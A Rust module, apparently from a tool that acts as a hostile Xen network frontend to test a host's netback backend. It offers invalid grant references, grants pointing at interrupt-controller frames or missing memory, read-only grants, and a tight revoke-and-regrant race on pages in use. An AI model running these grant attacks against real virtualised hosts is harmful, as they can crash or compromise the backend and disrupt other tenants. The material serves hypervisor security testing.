//! Grants that are none, or not any more.

use alloc::format;
use alloc::string::String;
use alloc::vec::Vec;
use core::time::Duration;

use xen::hostile::{GTF_PERMIT_ACCESS, GTF_READONLY, grant_nothing};
use xen::time;
use xen_sys::netif::{RxRequest, TxRequest};

use super::Attack;
use crate::Result;
use crate::frame::{self, BROADCAST, EXPERIMENT};
use crate::front::Front;
use crate::vif::state;

pub(super) async fn run(attack: &Attack<'_>, how: &str) -> Result<String> {
    let mut front = attack.connect().await?;
    match how {
        "invalid" => {
            bad_pages(attack, &mut front, &[0, 1, 7, 2047, 2048, 100_000, 0x7fff_ffff, u32::MAX]).await?;
        }
        "nothing" => {
            // The local and the I/O interrupt controller, and frames where there is nothing.
            let frames = [0xfee00, 0xfec00, 1 << 26, 0xffff_ffff];
            let grants = frames.map(|frame| grant_nothing(attack.vif.dom, frame).map(|gref| gref.0));
            let grants: Vec<u32> = grants.into_iter().flatten().collect();
            bad_pages(attack, &mut front, &grants).await?;
        }
        "readonly" => {
            front.buffers.iter().for_each(|page| page.set_flags(GTF_PERMIT_ACCESS | GTF_READONLY));
            let grants: Vec<u32> = front.buffers.iter().map(|page| page.gref().0).collect();
            offer(&mut front, &grants);
            provoke(attack, &mut front).await?;
        }
        "revoke" => revoke(attack, &mut front).await?,
        "rings" => {
            front.tx.page().set_flags(0);
            front.rx.page().set_flags(0);
            provoke(attack, &mut front).await?;
            // And what is mapped, read-only.
            front.tx.page().set_flags(GTF_PERMIT_ACCESS | GTF_READONLY);
            front.rx.page().set_flags(GTF_PERMIT_ACCESS | GTF_READONLY);
            provoke(attack, &mut front).await?;
        }
        _ => return Err(format!("there is no attack grants-{how}")),
    }
    Ok(front.told())
}

/// Frames to send from, and pages to receive in, that are none.
async fn bad_pages(attack: &Attack<'_>, front: &mut Front, grants: &[u32]) -> Result<()> {
    offer(front, grants);
    for round in 0..20 {
        for &gref in grants {
            front.put(&[TxRequest { gref, offset: 0, flags: 0, id: round, size: 100 }.to_slot()]);
        }
        front.kick();
        front.settle(Duration::from_millis(100)).await?;
    }
    provoke(attack, front).await
}

/// Offers these for received frames, again and again, for a whole ring.
fn offer(front: &mut Front, grants: &[u32]) {
    for (id, &gref) in (0..256).zip(grants.iter().cycle()) {
        front.rx.request(RxRequest { id, gref }.to_slot());
    }
    front.rx.publish();
    front.kick();
}

/// Makes others answer us, for a while.
async fn provoke(attack: &Attack<'_>, front: &mut Front) -> Result<()> {
    let ask = frame::arp_request(attack.vif.mac, attack.settings.me, attack.settings.peer);
    for index in 0..50 {
        front.send_frame(index, &ask);
        front.settle(Duration::from_millis(30)).await?;
        time::sleep(Duration::from_millis(10)).await;
    }
    Ok(())
}

/// Revokes and grants again in a tight loop, while the pages are in use both ways.
async fn revoke(attack: &Attack<'_>, front: &mut Front) -> Result<()> {
    front.offer(0, 256);
    let good = frame::ethernet(BROADCAST, attack.vif.mac, EXPERIMENT, &[0x5a; 1000]);
    let ask = frame::arp_request(attack.vif.mac, attack.settings.me, attack.settings.peer);
    while attack.goes_on() && attack.vif.backend_state().await == state::CONNECTED {
        for index in 0..front.tx.free() as usize {
            let slot = front.request(index, if index % 8 == 0 { &ask } else { &good });
            front.put(&[slot]);
        }
        front.kick();
        for flags in [0, GTF_PERMIT_ACCESS].repeat(50) {
            front.data.iter().chain(front.buffers).for_each(|page| page.set_flags(flags));
        }
        front.settle(Duration::from_millis(100)).await?;
    }
    Ok(())
}
